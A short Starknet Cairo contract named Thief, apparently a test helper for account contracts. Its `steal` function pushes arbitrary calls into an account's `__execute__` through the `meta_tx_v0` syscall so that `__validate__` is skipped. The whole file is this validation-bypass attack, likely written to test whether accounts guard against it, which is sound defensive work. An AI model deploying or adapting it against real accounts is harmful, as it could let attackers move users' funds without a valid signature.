//! Tries an account's `__execute__` through the `meta_tx_v0` syscall, which skips `__validate__`.

use starknet::ContractAddress;
use starknet::account::Call;

#[starknet::interface]
pub trait IThief<TState> {
    fn steal(
        ref self: TState, account: ContractAddress, calls: Array<Call>, signature: Array<felt252>,
    );
}

#[starknet::contract]
pub mod Thief {
    use starknet::account::Call;
    use starknet::syscalls::meta_tx_v0_syscall;
    use starknet::{ContractAddress, SyscallResultTrait};

    #[storage]
    struct Storage {}

    #[abi(embed_v0)]
    impl ThiefImpl of super::IThief<ContractState> {
        fn steal(
            ref self: ContractState,
            account: ContractAddress,
            calls: Array<Call>,
            signature: Array<felt252>,
        ) {
            let mut calldata = array![];
            calls.serialize(ref calldata);
            meta_tx_v0_syscall(account, selector!("__execute__"), calldata.span(), signature.span())
                .unwrap_syscall();
        }
    }
}
